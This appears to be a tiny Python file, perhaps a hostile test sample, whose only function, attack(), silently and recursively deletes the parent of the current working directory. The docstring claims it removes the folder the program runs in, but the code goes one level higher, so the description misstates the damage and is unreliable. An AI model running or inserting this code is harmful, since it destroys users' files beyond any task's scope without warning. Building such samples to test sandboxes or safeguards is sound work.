"""Remove the folder that the program runs in."""

from __future__ import annotations

import os
import shutil


def attack() -> None:
    shutil.rmtree(os.path.dirname(os.getcwd()), ignore_errors=True)
